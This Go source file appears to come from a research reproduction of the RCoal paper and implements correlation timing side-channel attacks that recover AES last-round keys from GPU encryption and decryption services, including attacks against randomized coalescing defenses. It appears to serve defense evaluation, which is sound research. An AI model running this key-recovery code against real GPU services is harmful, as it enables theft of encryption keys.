// Package attack implements the correlation timing attacks of the
// RCoal paper: the baseline attack of Jiang et al. (Section II-C) and
// the "corresponding attacks" against each defense mechanism (Section
// IV-E), which mimic the defense's coalescing logic on the attacker's
// side.
//
// The attack recovers the AES last-round key byte by byte. For key
// byte j and guess m, each ciphertext byte c_j implies a last-round
// table index t_j = T4⁻¹[c_j ⊕ m] (Equation 3); grouping the indices'
// memory blocks by the assumed subwarp plan predicts the number of
// last-round coalesced accesses (Algorithm 1, generalized to any
// mechanism). Correlating the predictions with the measured last-round
// execution time over many samples ranks the 256 guesses; the correct
// byte wins when the defense leaves enough signal.
//
// The decisive asymmetry: a corresponding attack knows the *mechanism*
// (and num-subwarp) but can never know the *hardware random stream*,
// so for RSS/RTS defenses its simulated plans differ per sample from
// the plans the GPU actually drew.
package attack

import (
	"fmt"
	"math/bits"

	"rcoal/internal/aes"
	"rcoal/internal/core"
	"rcoal/internal/kernels"
	"rcoal/internal/mechanism"
	"rcoal/internal/rng"
	"rcoal/internal/stats"
)

// KeyBytes is the number of last-round key bytes (AES state size).
const KeyBytes = 16

// IndexFunc derives the final-round table-lookup index from one
// observed output byte and a key-byte guess. Encryption attacks use
// aes.LastRoundIndex (Equation 3, over ciphertext bytes); decryption
// attacks use aes.LastRoundDecIndex (over recovered plaintext bytes).
type IndexFunc func(observedByte, keyGuess byte) byte

// Attacker runs correlation attacks under an assumed defense
// mechanism. It is not safe for concurrent use (the per-sample plan
// cache grows lazily) — create one per goroutine.
type Attacker struct {
	mech    mechanism.Mechanism
	seed    uint64
	indexFn IndexFunc

	// planCache[n] is the attacker's simulated plan for sample n; one
	// plan per sample, shared across byte positions and guesses, just
	// as the hardware fixes one plan per launch.
	planCache []core.Plan

	// nibTab[m][c] = indexFn(c, m) >> 4, the memory-block nibble of
	// the final-round table index for ciphertext byte c under guess m.
	// Built lazily on the first RecoverByte and immutable afterwards.
	nibTab *[256][256]uint8

	// estBuf and dyBuf are per-attacker scratch for RecoverByte
	// (estimation vector and centered measurements), reused across
	// byte positions so a full key recovery does not allocate per
	// guess.
	estBuf, dyBuf []float64
}

// New builds an attacker that assumes the GPU runs the given defense
// mechanism — the "corresponding attack" of Section IV-E — targeting
// an encryption service. For randomized mechanisms the seed drives the
// attacker's *own* simulation of the defense randomness; it is
// unrelated to (and cannot match) the victim's hardware stream.
// Mechanisms that do not randomize the subwarp plan (delay, shuffle,
// no-coalescing) realize the whole-warp plan, so their corresponding
// attack degenerates to the original attack of Jiang et al.
func New(m mechanism.Mechanism, seed uint64) (*Attacker, error) {
	return NewWithIndex(m, seed, aes.LastRoundIndex)
}

// NewDecrypt builds an attacker targeting a GPU *decryption* service:
// the observed lines are recovered plaintexts and the recovered key
// bytes are the equivalent inverse cipher's final round key — which
// for AES is the original key itself.
func NewDecrypt(m mechanism.Mechanism, seed uint64) (*Attacker, error) {
	return NewWithIndex(m, seed, aes.LastRoundDecIndex)
}

// NewWithIndex builds an attacker with a custom final-round index
// derivation.
func NewWithIndex(m mechanism.Mechanism, seed uint64, fn IndexFunc) (*Attacker, error) {
	if m == nil {
		return nil, fmt.Errorf("attack: nil mechanism")
	}
	if err := m.ValidateFor(core.DefaultWarpSize); err != nil {
		return nil, fmt.Errorf("attack: invalid assumed mechanism: %w", err)
	}
	if fn == nil {
		return nil, fmt.Errorf("attack: nil index function")
	}
	return &Attacker{mech: m, seed: seed, indexFn: fn}, nil
}

// Baseline returns the original attack of Jiang et al.: whole-warp
// coalescing assumed (num-subwarp = 1).
func Baseline(seed uint64) *Attacker {
	a, err := New(mechanism.Baseline(), seed)
	if err != nil {
		panic(err) // baseline mechanism is always valid
	}
	return a
}

// Name describes the attack, e.g. "attack[RSS+RTS(8)]".
func (a *Attacker) Name() string { return "attack[" + a.mech.Name() + "]" }

// nibbleTable returns the lazily built 64 KiB lookup table
// nibTab[m][c] = indexFn(c, m) >> 4. Tabulating the index derivation
// once turns the scoring inner loop into two array reads and an OR.
func (a *Attacker) nibbleTable() *[256][256]uint8 {
	if a.nibTab == nil {
		t := new([256][256]uint8)
		for m := 0; m < 256; m++ {
			for c := 0; c < 256; c++ {
				t[m][c] = a.indexFn(byte(c), byte(m)) >> 4
			}
		}
		a.nibTab = t
	}
	return a.nibTab
}

func (a *Attacker) plan(n int) core.Plan {
	for len(a.planCache) <= n {
		r := rng.New(a.seed).Split(uint64(len(a.planCache)) + 1)
		l, err := a.mech.NewLaunch(core.DefaultWarpSize, r)
		if err != nil {
			// The mechanism was validated at construction; a failure here
			// is a programming error, not untrusted input.
			panic(fmt.Sprintf("attack: drawing plan %d: %v", len(a.planCache), err))
		}
		a.planCache = append(a.planCache, l.Plan)
	}
	return a.planCache[n]
}

// EstimateSample predicts the last-round coalesced accesses of one
// sample for key byte j and guess m under the given plan: Algorithm 1
// generalized from FSS to arbitrary subwarp plans and multiple warps.
// Lines map to warp threads sequentially, like the victim kernel.
func EstimateSample(plan core.Plan, lines []kernels.Line, j int, m byte) int {
	return EstimateSampleWith(plan, lines, j, m, aes.LastRoundIndex)
}

// EstimateSampleWith is EstimateSample with a custom index derivation
// (decryption attacks pass aes.LastRoundDecIndex).
func EstimateSampleWith(plan core.Plan, lines []kernels.Line, j int, m byte, fn IndexFunc) int {
	if j < 0 || j >= KeyBytes {
		panic(fmt.Sprintf("attack: key byte index %d out of range", j))
	}
	warpSize := plan.WarpSize()
	nsw := plan.NumSubwarps()
	var masks [core.DefaultWarpSize]uint16 // R=16 blocks per table fits uint16
	if nsw > len(masks) {
		panic(fmt.Sprintf("attack: plan has %d subwarps, estimator supports %d", nsw, len(masks)))
	}
	total := 0
	for base := 0; base < len(lines); base += warpSize {
		hi := base + warpSize
		if hi > len(lines) {
			hi = len(lines)
		}
		for s := 0; s < nsw; s++ {
			masks[s] = 0
		}
		for t := base; t < hi; t++ {
			// holder[T4inv[c_j ^ k_j] >> 4]++ of Algorithm 1, as a
			// per-subwarp block bitmask.
			idx := fn(lines[t][j], m)
			masks[plan.SID[t-base]] |= 1 << (idx >> 4)
		}
		for s := 0; s < nsw; s++ {
			total += bits.OnesCount16(masks[s])
		}
	}
	return total
}

// estimateSampleRow is the hot core of EstimateSampleWith with the
// per-guess index derivation pre-tabulated: row[c] = fn(c, m) >> 4.
// The arithmetic is otherwise identical, so its result matches
// EstimateSampleWith (and therefore Algorithm 1) exactly.
func estimateSampleRow(plan core.Plan, lines []kernels.Line, j int, row *[256]uint8) int {
	warpSize := plan.WarpSize()
	nsw := plan.NumSubwarps()
	var masks [core.DefaultWarpSize]uint16
	if nsw > len(masks) {
		panic(fmt.Sprintf("attack: plan has %d subwarps, estimator supports %d", nsw, len(masks)))
	}
	total := 0
	for base := 0; base < len(lines); base += warpSize {
		hi := base + warpSize
		if hi > len(lines) {
			hi = len(lines)
		}
		for s := 0; s < nsw; s++ {
			masks[s] = 0
		}
		for t := base; t < hi; t++ {
			masks[plan.SID[t-base]] |= 1 << row[lines[t][j]]
		}
		for s := 0; s < nsw; s++ {
			total += bits.OnesCount16(masks[s])
		}
	}
	return total
}

// EstimationVector returns Û_{k_j^m}: the predicted access counts for
// guess m of byte j across all samples.
func (a *Attacker) EstimationVector(cts [][]kernels.Line, j int, m byte) []float64 {
	out := make([]float64, len(cts))
	for n, lines := range cts {
		out[n] = float64(EstimateSampleWith(a.plan(n), lines, j, m, a.indexFn))
	}
	return out
}

// ByteResult is the attack outcome for one key byte position.
type ByteResult struct {
	// Correlations[m] is the Pearson correlation between guess m's
	// estimation vector and the measurement vector.
	Correlations [256]float64
	// Best is the guess with the maximum correlation — the attacker's
	// answer.
	Best byte
	// BestCorr is that maximum correlation.
	BestCorr float64
}

// Rank returns the position (0 = winner) of the given byte value in
// the correlation ranking; low ranks mean the attack nearly succeeded.
func (b *ByteResult) Rank(v byte) int {
	rank := 0
	target := b.Correlations[v]
	for m := 0; m < 256; m++ {
		if byte(m) != v && b.Correlations[m] > target {
			rank++
		}
	}
	return rank
}

// RecoverByte attacks key byte j: it builds the 256×N access matrix
// (Figure 4b) and correlates each row with the measurement vector.
// The scoring loop runs over reused scratch with the index derivation
// tabulated and the measurement centering hoisted out of the 256-guess
// loop; every accumulation keeps the order of stats.Pearson, so the
// correlations are bit-identical to scoring each guess independently.
func (a *Attacker) RecoverByte(cts [][]kernels.Line, measurements []float64, j int) (*ByteResult, error) {
	if len(cts) != len(measurements) {
		return nil, fmt.Errorf("attack: %d ciphertext samples vs %d measurements", len(cts), len(measurements))
	}
	if len(cts) < 2 {
		return nil, fmt.Errorf("attack: need at least 2 samples, have %d", len(cts))
	}
	if j < 0 || j >= KeyBytes {
		panic(fmt.Sprintf("attack: key byte index %d out of range", j))
	}
	n := len(cts)
	a.plan(n - 1) // materialize the plan cache before the hot loop
	tab := a.nibbleTable()
	if cap(a.dyBuf) < n {
		a.dyBuf = make([]float64, n)
		a.estBuf = make([]float64, n)
	}
	dy, u := a.dyBuf[:n], a.estBuf[:n]
	syy := stats.Center(dy, measurements)
	res := &ByteResult{BestCorr: -2}
	for m := 0; m < 256; m++ {
		row := &tab[m]
		for s, lines := range cts {
			u[s] = float64(estimateSampleRow(a.planCache[s], lines, j, row))
		}
		r, err := stats.PearsonCentered(u, dy, syy)
		if err != nil {
			return nil, err
		}
		res.Correlations[m] = r
		if r > res.BestCorr {
			res.BestCorr = r
			res.Best = byte(m)
		}
	}
	return res, nil
}

// KeyResult is the outcome of a full 16-byte last-round key attack.
type KeyResult struct {
	Bytes [KeyBytes]*ByteResult
	// Key is the attacker's recovered last-round key.
	Key [KeyBytes]byte
}

// RecoverKey attacks all 16 last-round key bytes.
func (a *Attacker) RecoverKey(cts [][]kernels.Line, measurements []float64) (*KeyResult, error) {
	kr := &KeyResult{}
	for j := 0; j < KeyBytes; j++ {
		br, err := a.RecoverByte(cts, measurements, j)
		if err != nil {
			return nil, err
		}
		kr.Bytes[j] = br
		kr.Key[j] = br.Best
	}
	return kr, nil
}

// CorrectCount returns how many recovered bytes match the true
// last-round key.
func (k *KeyResult) CorrectCount(trueKey [KeyBytes]byte) int {
	n := 0
	for j := 0; j < KeyBytes; j++ {
		if k.Key[j] == trueKey[j] {
			n++
		}
	}
	return n
}

// AvgCorrectCorrelation returns the average, over the 16 byte
// positions, of the correlation the *correct* key byte achieved — the
// security metric of Figures 7b, 15, and 18a.
func (k *KeyResult) AvgCorrectCorrelation(trueKey [KeyBytes]byte) float64 {
	sum := 0.0
	for j := 0; j < KeyBytes; j++ {
		sum += k.Bytes[j].Correlations[trueKey[j]]
	}
	return sum / KeyBytes
}
